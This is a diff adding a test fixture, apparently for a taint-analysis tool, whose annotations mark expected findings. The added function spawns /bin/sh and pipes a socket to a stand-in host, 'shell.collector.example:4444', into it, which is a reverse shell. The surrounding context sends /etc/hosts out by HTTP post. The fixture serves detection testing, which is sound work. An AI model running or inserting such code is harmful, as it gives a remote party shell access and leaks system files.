@@ -131,3 +131,14 @@ function pipeline() {
   stream.pipeline(fs.createReadStream("/etc/hosts"), middle); //~ source(FILE) f32
   middle.on("data", (chunk) => axios.post(U, chunk)); //~ sink(egress.http) f32, finding(traced) f32
 }
+
+function shell() {
+  const sh = cp.spawn("/bin/sh", []);
+  const client = new net.Socket(); //~ source(NETWORK) fshell
+  client.connect(4444, "shell.collector.example", () => {
+    client.pipe(sh.stdin); //~ sink(exec.command) fshell, finding(traced) fshell
+  });
+  const other = net.connect(4444, "shell.collector.example"); //~ source(NETWORK) fshell2
+  other.pipe(sh.stdin); //~ sink(exec.command) fshell2, finding(traced) fshell2
+  net.connect(4444, "shell.collector.example").pipe(process.stdout); //~ ok
+}
